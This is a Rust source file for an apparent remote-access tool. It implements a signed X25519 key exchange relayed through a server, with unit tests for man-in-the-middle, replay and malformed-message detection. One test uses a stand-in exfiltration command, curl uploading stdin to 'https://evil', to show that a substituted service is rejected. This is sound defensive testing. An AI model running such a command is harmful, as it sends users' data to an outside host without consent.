//! The key exchange through the server, once a request is allowed.
//!
//! 1. `connect` makes an ephemeral X25519 key and sends its public half
//!    with its ask ([`OperatorHello`]); the server passes it to the agent
//!    with the offer.
//! 2. When the agent opens the allowed session, its first frame is a
//!    [`ComputerReply`]: an ephemeral key of its own, its identity, and
//!    its identity's signature over the transcript: the request's id, what
//!    the session runs (its service: the command, the targets, the copy),
//!    and the three public keys.
//! 3. `connect` checks the signature with the identity it knows for the
//!    computer (or learns it, on first use), and both derive the
//!    session's keys from the two ephemeral keys, salted with the
//!    transcript.
//!
//! A server that swaps either ephemeral key for its own cannot sign the
//! transcript that results, so `connect` refuses it; it cannot replay an
//! old reply either, since each hello is new; and it cannot have the
//! computer run something else than what the operator asked (another
//! command fed the operator's input), since the computer signs what it
//! runs and `connect` checks it against its ask. The keys die with the
//! session (forward secrecy): the identity only signs.

use crate::identity::{Identity, PUBLIC_LEN, PublicIdentity};
use crate::seal::{FrameOpener, FrameSealer, KEY_LEN};
use crate::tunnel::TunnelSecret;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use ring::agreement::{self, EphemeralPrivateKey, UnparsedPublicKey, X25519};
use ring::{digest, hkdf};
use serde::{Deserialize, Serialize};
use zeroize::Zeroizing;

/// The version of this exchange: hellos and replies carry it.
pub const VERSION: u8 = 1;
const TRANSCRIPT_LABEL: &[u8] = b"doorman e2e v1 transcript\0";
const SIGNATURE_LABEL: &[u8] = b"doorman e2e v1 computer signature\0";
const OPERATOR_TO_COMPUTER: &[u8] = b"doorman e2e v1 operator to computer";
const COMPUTER_TO_OPERATOR: &[u8] = b"doorman e2e v1 computer to operator";
const TUNNELS: &[u8] = b"doorman e2e v1 tunnels";
/// The longest request id a transcript takes (the server's are far
/// shorter).
const MAX_REQUEST_ID: usize = 256;

/// Why a key exchange failed.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum HandshakeError {
    #[error("end-to-end version {0} is not one this side speaks (it speaks {VERSION})")]
    Version(u8),
    #[error("malformed end-to-end message: {0}")]
    Malformed(&'static str),
    /// The reply's signature does not hold for this session's transcript:
    /// someone between the two ends changed the keys.
    #[error("the computer's reply does not prove its identity for this session")]
    Unproven,
    #[error("the key exchange failed")]
    KeyExchange,
}

/// What `connect` sends with its ask: its ephemeral public key.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct OperatorHello {
    pub version: u8,
    /// 32 bytes, base64.
    pub ephemeral: String,
}

/// The agent's first frame on an end-to-end session connection.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
// serde refuses a struct's tag with `deny_unknown_fields`; unknown fields
// are ignored, and the signature covers all that counts.
#[serde(tag = "type", rename = "e2e_reply")]
pub struct ComputerReply {
    pub version: u8,
    /// The computer's public identity: 32 bytes, base64.
    pub identity: String,
    /// Its ephemeral public key: 32 bytes, base64.
    pub ephemeral: String,
    /// Its identity's signature over the transcript, base64.
    pub signature: String,
}

/// The keys of one end-to-end session, as one end holds them.
pub struct SessionKeys {
    /// Seals what this end sends.
    pub sealer: FrameSealer,
    /// Opens what the other end sent.
    pub opener: FrameOpener,
    /// The secret each forwarded connection's keys come from.
    pub tunnels: TunnelSecret,
}

impl std::fmt::Debug for SessionKeys {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("SessionKeys(MASKED)")
    }
}

/// `connect`'s half of the exchange, between its ask and the reply.
pub struct Initiator {
    private: EphemeralPrivateKey,
    public: [u8; PUBLIC_LEN],
}

impl std::fmt::Debug for Initiator {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("Initiator(MASKED)")
    }
}

impl Initiator {
    /// A new ephemeral key, and the hello that carries its public half.
    pub fn start() -> Result<(Initiator, OperatorHello), HandshakeError> {
        let private = EphemeralPrivateKey::generate(&X25519, crate::rng())
            .map_err(|_| HandshakeError::KeyExchange)?;
        let public = public_of(&private)?;
        let hello = OperatorHello {
            version: VERSION,
            ephemeral: STANDARD.encode(public),
        };
        Ok((Initiator { private, public }, hello))
    }

    /// Checks the computer's `reply` for the request `request_id` and
    /// derives the session's keys. Returns the identity that signed, which
    /// the caller must compare with the one it knows.
    pub fn finish(
        self,
        request_id: &str,
        service: &[u8],
        reply: &ComputerReply,
    ) -> Result<(PublicIdentity, SessionKeys), HandshakeError> {
        if reply.version != VERSION {
            return Err(HandshakeError::Version(reply.version));
        }
        let identity = PublicIdentity::from_base64(&reply.identity)
            .map_err(|_| HandshakeError::Malformed("identity"))?;
        let theirs = key_of(&reply.ephemeral, "ephemeral")?;
        let signature = STANDARD
            .decode(&reply.signature)
            .map_err(|_| HandshakeError::Malformed("signature"))?;
        let transcript = transcript(request_id, service, &self.public, &theirs, &identity)?;
        if !identity.verify(&signed(&transcript), &signature) {
            return Err(HandshakeError::Unproven);
        }
        let keys = derive(self.private, &theirs, &transcript, Role::Operator)?;
        Ok((identity, keys))
    }
}

/// The computer's half: answers `hello` for the request `request_id`,
/// which runs `service` (its wire form, as the operator sent it), with
/// `identity`, and derives the session's keys.
pub fn respond(
    identity: &Identity,
    request_id: &str,
    service: &[u8],
    hello: &OperatorHello,
) -> Result<(ComputerReply, SessionKeys), HandshakeError> {
    if hello.version != VERSION {
        return Err(HandshakeError::Version(hello.version));
    }
    let theirs = key_of(&hello.ephemeral, "ephemeral")?;
    let private = EphemeralPrivateKey::generate(&X25519, crate::rng())
        .map_err(|_| HandshakeError::KeyExchange)?;
    let ours = public_of(&private)?;
    let public = identity.public();
    let transcript = transcript(request_id, service, &theirs, &ours, &public)?;
    let signature = identity.sign(&signed(&transcript));
    let keys = derive(private, &theirs, &transcript, Role::Computer)?;
    let reply = ComputerReply {
        version: VERSION,
        identity: public.to_base64(),
        ephemeral: STANDARD.encode(ours),
        signature: STANDARD.encode(signature.as_ref()),
    };
    Ok((reply, keys))
}

/// Checks a hello without answering it (the agent, when the offer comes).
pub fn check_hello(hello: &OperatorHello) -> Result<(), HandshakeError> {
    if hello.version != VERSION {
        return Err(HandshakeError::Version(hello.version));
    }
    key_of(&hello.ephemeral, "ephemeral").map(|_| ())
}

#[derive(Clone, Copy)]
enum Role {
    Operator,
    Computer,
}

fn public_of(private: &EphemeralPrivateKey) -> Result<[u8; PUBLIC_LEN], HandshakeError> {
    let public = private
        .compute_public_key()
        .map_err(|_| HandshakeError::KeyExchange)?;
    public
        .as_ref()
        .try_into()
        .map_err(|_| HandshakeError::KeyExchange)
}

fn key_of(text: &str, what: &'static str) -> Result<[u8; PUBLIC_LEN], HandshakeError> {
    STANDARD
        .decode(text)
        .ok()
        .and_then(|bytes| bytes.try_into().ok())
        .ok_or(HandshakeError::Malformed(what))
}

/// SHA-256 of the request id, the service's digest and the three public
/// keys, each in a fixed place (the id length-prefixed), so that no two
/// transcripts read alike.
fn transcript(
    request_id: &str,
    service: &[u8],
    operator: &[u8; PUBLIC_LEN],
    computer: &[u8; PUBLIC_LEN],
    identity: &PublicIdentity,
) -> Result<[u8; 32], HandshakeError> {
    if request_id.is_empty() || request_id.len() > MAX_REQUEST_ID {
        return Err(HandshakeError::Malformed("request id"));
    }
    let mut context = digest::Context::new(&digest::SHA256);
    context.update(TRANSCRIPT_LABEL);
    // At most MAX_REQUEST_ID: one byte holds it.
    context.update(&[u8::try_from(request_id.len()).unwrap_or(u8::MAX)]);
    context.update(request_id.as_bytes());
    context.update(digest::digest(&digest::SHA256, service).as_ref());
    context.update(operator);
    context.update(computer);
    context.update(identity.as_bytes());
    let mut hash = [0u8; 32];
    hash.copy_from_slice(context.finish().as_ref());
    Ok(hash)
}

fn signed(transcript: &[u8; 32]) -> Vec<u8> {
    [SIGNATURE_LABEL, transcript.as_slice()].concat()
}

/// An HKDF output length.
struct Len(usize);

impl hkdf::KeyType for Len {
    fn len(&self) -> usize {
        self.0
    }
}

/// Fills `out` from `prk` for `label`.
pub(crate) fn expand(prk: &hkdf::Prk, label: &[u8], out: &mut [u8]) -> Result<(), HandshakeError> {
    let info = [label];
    prk.expand(&info, Len(out.len()))
        .and_then(|okm| okm.fill(out))
        .map_err(|_| HandshakeError::KeyExchange)
}

fn derive(
    private: EphemeralPrivateKey,
    theirs: &[u8; PUBLIC_LEN],
    transcript: &[u8; 32],
    role: Role,
) -> Result<SessionKeys, HandshakeError> {
    let peer = UnparsedPublicKey::new(&X25519, theirs);
    let prk = agreement::agree_ephemeral(private, &peer, |shared| {
        hkdf::Salt::new(hkdf::HKDF_SHA256, transcript).extract(shared)
    })
    .map_err(|_| HandshakeError::KeyExchange)?;
    let mut up = Zeroizing::new([0u8; KEY_LEN]);
    let mut down = Zeroizing::new([0u8; KEY_LEN]);
    let mut tunnels = Zeroizing::new([0u8; 32]);
    expand(&prk, OPERATOR_TO_COMPUTER, up.as_mut_slice())?;
    expand(&prk, COMPUTER_TO_OPERATOR, down.as_mut_slice())?;
    expand(&prk, TUNNELS, tunnels.as_mut_slice())?;
    let (send, receive) = match role {
        Role::Operator => (&up, &down),
        Role::Computer => (&down, &up),
    };
    Ok(SessionKeys {
        sealer: FrameSealer::new(send),
        opener: FrameOpener::new(receive),
        tunnels: TunnelSecret::new(tunnels),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    const SERVICE: &[u8] = br#"{"kind":"command","argv":["ls"]}"#;

    fn exchange(request_id: &str) -> (Identity, ComputerReply, SessionKeys, Initiator) {
        let identity = Identity::generate().unwrap();
        let (initiator, hello) = Initiator::start().unwrap();
        let (reply, computer) = respond(&identity, request_id, SERVICE, &hello).unwrap();
        (identity, reply, computer, initiator)
    }

    #[test]
    fn both_ends_derive_keys_that_open_each_others_frames() {
        let (identity, reply, mut computer, initiator) = exchange("r1");
        let (signer, mut operator) = initiator.finish("r1", SERVICE, &reply).unwrap();
        assert_eq!(signer, identity.public());
        let sealed = operator.sealer.seal(b"ls -l").unwrap();
        assert_eq!(computer.opener.open(&sealed).unwrap(), b"ls -l");
        let sealed = computer.sealer.seal(b"total 0").unwrap();
        assert_eq!(operator.opener.open(&sealed).unwrap(), b"total 0");
        // A frame sealed by one end does not open as the other's.
        let own = operator.sealer.seal(b"echo").unwrap();
        assert!(operator.opener.open(&own).is_err());
    }

    /// A server that has the computer run something else than what the
    /// operator asked is caught.
    #[test]
    fn a_reply_for_another_service_is_unproven() {
        let identity = Identity::generate().unwrap();
        let (initiator, hello) = Initiator::start().unwrap();
        let other = br#"{"kind":"command","argv":["curl","-T","-","https://evil"]}"#;
        let (reply, _) = respond(&identity, "r1", other, &hello).unwrap();
        assert_eq!(
            initiator.finish("r1", SERVICE, &reply).unwrap_err(),
            HandshakeError::Unproven
        );
    }

    #[test]
    fn a_reply_for_another_request_is_unproven() {
        let (_, reply, _, initiator) = exchange("r1");
        assert_eq!(
            initiator.finish("r2", SERVICE, &reply).unwrap_err(),
            HandshakeError::Unproven
        );
    }

    /// A server that answers the operator with keys of its own, passing
    /// the computer's identity and signature along, is caught.
    #[test]
    fn a_man_in_the_middle_cannot_prove_the_computers_identity() {
        let identity = Identity::generate().unwrap();
        let (initiator, hello) = Initiator::start().unwrap();
        // The server makes its own hello for the computer …
        let (_server_side, server_hello) = Initiator::start().unwrap();
        let (computer_reply, _) = respond(&identity, "r1", SERVICE, &server_hello).unwrap();
        // … and its own reply for the operator, with the computer's identity.
        let (server_reply, _) =
            respond(&Identity::generate().unwrap(), "r1", SERVICE, &hello).unwrap();
        let forged = ComputerReply {
            identity: computer_reply.identity.clone(),
            ..server_reply
        };
        assert_eq!(
            initiator.finish("r1", SERVICE, &forged).unwrap_err(),
            HandshakeError::Unproven
        );
        // Nor does the computer's own reply, made for the server's key, hold.
        let (initiator, _) = Initiator::start().unwrap();
        assert_eq!(
            initiator
                .finish("r1", SERVICE, &computer_reply)
                .unwrap_err(),
            HandshakeError::Unproven
        );
    }

    #[test]
    fn malformed_replies_and_other_versions_are_named() {
        let (_, reply, _, initiator) = exchange("r1");
        let bad = ComputerReply {
            ephemeral: "AAAA".into(),
            ..reply.clone()
        };
        assert_eq!(
            initiator.finish("r1", SERVICE, &bad).unwrap_err(),
            HandshakeError::Malformed("ephemeral")
        );
        let (_, _, _, initiator) = exchange("r1");
        let newer = ComputerReply {
            version: 2,
            ..reply
        };
        assert_eq!(
            initiator.finish("r1", SERVICE, &newer).unwrap_err(),
            HandshakeError::Version(2)
        );
        let hello = OperatorHello {
            version: 1,
            ephemeral: "not base64!".into(),
        };
        assert!(check_hello(&hello).is_err());
    }

    #[test]
    fn the_reply_has_stable_json() {
        let (_, reply, _, _) = exchange("r1");
        let json = serde_json::to_string(&reply).unwrap();
        assert!(
            json.starts_with(r#"{"type":"e2e_reply","version":1,"identity":""#),
            "{json}"
        );
        assert_eq!(serde_json::from_str::<ComputerReply>(&json).unwrap(), reply);
    }
}
